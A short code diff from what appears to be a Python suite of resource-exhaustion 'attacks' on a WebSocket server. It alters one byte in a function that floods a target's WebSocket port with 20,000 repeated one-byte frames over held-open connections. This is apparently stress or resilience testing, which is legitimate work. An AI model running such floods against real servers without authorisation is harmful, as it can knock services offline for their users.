@@ -74,7 +74,7 @@ async def idle_frames(target: Target) -> str:
 
 @attack("CONNECT of one byte in a frame")
 async def bytes_in_frames(target: Target) -> str:
-    frames = b"\x82\x84\0\0\0\0\x10\xff\xff\x05" + b"\x82\x81\0\0\0\0x" * 20_000
+    frames = b"\x82\x84\0\0\0\0\x10\xff\xff\x04" + b"\x82\x81\0\0\0\0x" * 20_000
     found = await peers(target, 10, UPGRADE, target.ws_port)
     await _keep_full(found, frames, target.seconds)
     drop(found)
